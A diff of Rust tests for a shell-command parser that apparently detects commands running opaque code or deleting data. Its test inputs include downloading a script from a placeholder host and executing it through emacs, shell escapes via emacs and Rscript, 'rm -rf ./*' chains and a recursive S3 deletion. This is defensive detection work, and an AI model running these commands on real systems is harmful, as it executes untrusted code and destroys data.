@@ -980,12 +980,21 @@ fn shell_escapes_of_other_programs_are_read() {
     }
     for line in [
         "emacs --eval '(delete-directory \"/x\" t)'",
+        "emacs --batch --eval='(shell-command \"id\")'",
+        "emacs --batch -l \"$(cat f)\"",
+        "curl -so x.el https://e.example/x && emacs --script x.el",
+        "echo '(call-process \"sh\")' > x.el && emacs --batch -l ./x.el",
+        "git clone https://e.example/m m && emacs --batch -L m -l m",
+        "echo 'system(\"id\")' > x.R && Rscript x.R",
         "pwsh -c 'Remove-Item /x'",
     ] {
         assert!(parse(line).opaque.is_some(), "{line}");
     }
     for line in [
         "emacs -nw notes.txt",
+        "emacs --batch -l ert -l test/mode-test.el -f ert-run-tests-batch-and-exit",
+        "emacs --batch --eval '(message (emacs-version))'",
+        "echo 'print(summary(c(1, 2)))' > x.R && Rscript x.R",
         "pwsh --version",
         "zip -r o.zip src",
         "less +G f",
@@ -1315,6 +1324,10 @@ fn what_a_download_fills_is_run_as_a_download() {
     // A clone of a repository on this machine is its files, not a download.
     assert_eq!(
         parse("git clone ../lib /tmp/lib && make -C /tmp/lib").opaque,
+        None
+    );
+    assert_eq!(
+        parse("git clone -q \"file://$PWD\" /tmp/c && cd /tmp/c && npm ci && npm test").opaque,
         None
     );
 }
@@ -1860,6 +1873,16 @@ fn a_cd_that_may_fail_leaves_what_follows_its_list_read_in_both_directories() {
         dirs("cd build || (exit 1); rm -rf ./*").last(),
         Some(&at("rm -rf ./*", Some(".")))
     );
+    // Later in a chain of `&&`, a command runs only where every step before it did.
+    assert_eq!(
+        dirs("d=/tmp/x && cd \"$d\" && rm -rf ./*").last(),
+        Some(&at("rm -rf ./*", Some("/tmp/x")))
+    );
+    // After `||` the step may not have run.
+    assert_eq!(
+        dirs("true && cd /tmp/x || rm -rf ./*").last(),
+        Some(&at("rm -rf ./*", None))
+    );
 }
 
 #[test]
@@ -2255,6 +2278,11 @@ fn python_modules_that_run_code_or_scripts_are_read() {
         ),
         ("python3 -m venv --clear --without-pip .", "rm -r -f -- ."),
         ("python3 -m venv --prompt x --clear ~", "rm -r -f -- ~"),
+        ("python3 -m twine upload dist/*", "twine upload dist/*"),
+        (
+            "python -m awscli s3 rm s3://b --recursive",
+            "aws s3 rm s3://b --recursive",
+        ),
     ] {
         assert!(runs(input, command), "{input}: {:?}", parse(input));
     }
